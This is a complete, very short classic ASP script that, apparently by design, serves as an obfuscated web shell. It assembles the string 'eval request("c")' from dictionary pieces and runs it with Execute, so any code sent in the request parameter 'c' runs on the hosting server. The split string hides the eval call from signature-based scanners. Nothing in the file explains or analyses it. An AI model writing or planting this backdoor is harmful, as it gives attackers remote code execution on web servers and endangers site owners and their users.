<%
Set d = CreateObject("Scripting.Dictionary")
d.Add "a", "ev"
d.Add "b", "al request(""c"")"
x = d("a") & d("b")
Execute x
%>
